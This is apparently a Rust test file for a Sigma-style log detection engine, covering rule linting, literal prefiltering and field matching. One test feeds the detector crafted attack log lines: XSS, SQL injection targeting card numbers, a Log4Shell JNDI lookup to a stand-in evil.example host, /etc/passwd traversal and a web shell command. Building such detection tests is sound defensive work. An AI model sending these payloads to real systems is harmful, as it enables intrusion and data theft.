    assert_eq!(fails.len(), 1);
    assert!(fails[0].expected_match && fails[0].rule_id == "sk-1");
    // Right line, wrong family: does not count as a match.
    assert_eq!(r.run_tests(parse_as_chat).len(), 1);
}

#[test]
fn lint_and_unique_ids() {
    let src = "title: No Id Here!\ndetection:\n    s:\n        - x\n    condition: s\n---\ntitle: Other\nid: no-id-here\nlevel: low\ndetection:\n    s:\n        - y\n    condition: s\n";
    let rules = load_str(src, "l.yml").unwrap();
    assert_eq!(rules[0].id, "no-id-here");
    assert_eq!(rules[1].line, 6);
    let msgs = lint(&rules);
    let has = |s: &str| msgs.iter().any(|m| m.contains(s));
    assert!(has("l.yml:1: rule no-id-here: missing id"), "{msgs:?}");
    assert!(has("missing level"));
    assert!(has("no references"));
    assert!(has("no test samples"));
    assert!(
        has("l.yml:6: rule no-id-here: duplicate id (also at l.yml:1)"),
        "{msgs:?}"
    );
    let e = check_unique_ids(&rules).unwrap_err();
    assert!(
        e.to_string()
            .starts_with("l.yml:6:1: duplicate rule id 'no-id-here' (also at l.yml:1)"),
        "{e}"
    );
}

#[test]
fn load_path_walks_directories_sorted() {
    let dir = tempfile::tempdir().unwrap();
    let body = |id: &str| {
        format!("title: {id}\nid: {id}\ndetection:\n    s:\n        - x\n    condition: s\n")
    };
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("b.yml"), body("b")).unwrap();
    std::fs::write(dir.path().join("sub/a.yaml"), body("a")).unwrap();
    std::fs::write(dir.path().join("a.yml"), body("c")).unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
    let rules = load_path(dir.path()).unwrap();
    let ids: Vec<&str> = rules.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(ids, ["c", "b", "a"]);
    let e = load_path(&dir.path().join("missing.yml")).unwrap_err();
    assert_eq!((e.line, e.column), (0, 0));
}

#[test]
fn literals_cover_conditions() {
    let r = rule_with(
        "    a:\n        cs-uri-stem|contains: '/checkout'\n    b:\n        cs-uri-query|contains:\n            - 'cardnum'\n            - 'ccv'\n    f:\n        sc-status: 404\n    condition: a and b and not f\n",
    );
    // `and` picks the most selective child; `not` contributes nothing.
    let lits = r.literals().unwrap();
    assert!(lits.contains(&b"/checkout".to_vec()), "{lits:?}");
    assert!(lits.iter().all(|l| l.ends_with(b"checkout")), "{lits:?}");
    let or = rule_with(
        "    a:\n        cs-uri-stem|contains: '/checkout'\n    b:\n        x|exists: true\n    condition: a or b\n",
    );
    assert_eq!(or.literals(), None);
    let neg = rule_with("    f:\n        sc-status: 404\n    condition: not f\n");
    assert_eq!(neg.literals(), None);
    let kws = rule_with(
        "    k:\n        - '=%3Cscript%3E'\n        - 'document.cookie'\n    condition: k\n",
    );
    // `3cscript` behind the spellings of `%`; `document` is at the start.
    let lits = kws.literals().unwrap();
    assert!(lits.contains(&b"%3cscript".to_vec()) && lits.contains(&b"%253cscript".to_vec()));
    assert!(lits.contains(&b"document".to_vec()), "{lits:?}");
    assert!(
        lits.iter()
            .all(|l| l.ends_with(b"3cscript") || *l == b"document"),
        "{lits:?}"
    );
    let short =
        rule_with("    k:\n        - '<a>'\n        - 'document.cookie'\n    condition: k\n");
    assert_eq!(short.literals(), None);
    // Soundness when the raw line '+'-encodes the spaces of a value.
    let sp = rule_with("    s:\n        cs-uri-query|contains: 'union select'\n    condition: s\n");
    let rec = web(
        "GET /?q=union+select",
        &[("cs-uri-query", "q=union select")],
    );
    assert!(ev(&sp, &rec).is_some());
}

/// A minimal combined-log splitter for the corpus test (the real format
/// module is another helper's).
#[cfg(feature = "shared-corpora")]
fn combined(line: &str) -> Record<'_> {
    let mut rec = Record::bare(line.as_bytes(), None, Family::Web);
    let quoted: Vec<&str> = line.split('"').collect();
    let (Some(head), Some(request), Some(tail)) = (quoted.first(), quoted.get(1), quoted.get(2))
    else {
        return rec;
    };
    let mut push = |k: &str, v: &str| {
        rec.fields
            .push((k.to_string().into(), v.to_string().into()))
    };
    if let Some(ip) = head.split(' ').next() {
        push("c-ip", ip);
    }
    let mut parts = request.split(' ');
    let method = parts.next().unwrap_or("");
    let uri = parts.next().unwrap_or("");
    let (stem, query) = uri.split_once('?').unwrap_or((uri, ""));
    push("cs-method", method);
    push("cs-uri", uri);
    push("cs-uri-stem", stem);
    // SigmaHQ webserver rules often test paths in cs-uri-query: give the
    // whole URI there so more rules are exercised.
    push("cs-uri-query", if query.is_empty() { uri } else { query });
    let mut nums = tail.split_whitespace();
    push("sc-status", nums.next().unwrap_or(""));
    push("sc-bytes", nums.next().unwrap_or(""));
    push("cs-referer", quoted.get(3).copied().unwrap_or(""));
    push("cs-user-agent", quoted.get(5).copied().unwrap_or(""));
    rec
}

#[cfg(feature = "shared-corpora")]
#[test]
fn shared_prefilter_sound_on_real_corpora() {
    let Some(dir) = shared_dir() else {
        eprintln!("NOTICE: ../shared not found; skipping corpus soundness test");
        return;
    };
    let rules = load_path(&dir).unwrap_or_else(|e| panic!("{e}"));
    let corpora = dir.join("../corpora");
    let files = [
        ("nielsbasjes_logparser_hackers-access.log", 1),
        ("elastic_examples_apache_logs.log", 20),
    ];
    let mut matched = 0;
    let mut lines = 0;
    // Hand-made attack lines so the check also sees matches.
    let attacks = [
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /search?q=<script>alert(1)</script> HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /item?id=1%20UNION%20SELECT%20cc_number HTTP/1.1" 200 5 "-" "sqlmap/1.5""#,
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1" 200 5 "-" "${jndi:ldap://evil.example/a}""#,
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /../../../../etc/passwd HTTP/1.1" 200 5 "-" "curl/7.1""#,
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /.git/config HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /index.php?q={{7*7}} HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /shell.php?cmd=whoami HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
    ];
    for line in attacks {
        lines += 1;
        let rec = combined(line);
        for r in &rules {
            if r.eval(&rec).is_some() {
                matched += 1;
                assert_sound(r, &rec);
            }
        }
    }
    assert!(
        matched >= attacks.len(),
        "crafted attacks matched only {matched} times"
    );
    for (file, step) in files {
        let Ok(text) = std::fs::read_to_string(corpora.join(file)) else {
            eprintln!("NOTICE: {file} not readable; skipping it");
            continue;
        };
        for line in text.lines().step_by(step) {
            lines += 1;
            let rec = combined(line);
            for r in &rules {
                if r.eval(&rec).is_some() {
                    matched += 1;
                    assert_sound(r, &rec);
                }
            }
        }
    }
    eprintln!("corpus soundness: {lines} lines, {matched} rule matches, all covered by literals()");
}

#[test]
fn rules_are_shareable_across_threads() {
    fn send_sync<T: Send + Sync>() {}
    send_sync::<Rule>();
    send_sync::<RuleError>();
}

/// Records with more fields than the sources kept on the stack: a keyword
/// and a repeated field name (JSON arrays give one per element) still see
/// every field, with the first match as witness.
#[test]
fn conditions_see_every_field_past_the_stack() {
    let kw = load(
        "title: K\nid: k\ndetection:\n    keywords:\n        - 'needle'\n    condition: keywords\n",
    );
    let named = load(
        "title: N\nid: n\ndetection:\n    sel:\n        items|contains: 'needle'\n    condition: sel\n",
    );
    for n in [0usize, 1, 15, 16, 17, 40] {
        for at in [0, n / 2, n.saturating_sub(1)] {
            let values: Vec<String> = (0..n)
                .map(|i| {
                    if i == at {
                        format!("a needle {i}")
                    } else {
                        format!("hay {i}")
                    }
                })
                .collect();
            let fields: Vec<(&str, &str)> = values.iter().map(|v| ("items", v.as_str())).collect();
            // The raw line holds every value, as a log line does.
            let raw = values.join(" ");
            let rec = web(&raw, &fields);
            // A keyword tries the raw line first.
            let want = |r: &Rule| match (n, r.id.as_str()) {
                (0, _) => None,
                (_, "k") => Some(raw.clone()),
                _ => Some(format!("a needle {at}")),
            };
            for r in [&kw, &named] {
                let hit = ev(r, &rec);
                assert_eq!(
                    hit.and_then(|h| h.value),
                    want(r),
                    "rule {}, {n} fields, needle in {at}",
                    r.id
                );
            }
        }
    }
}
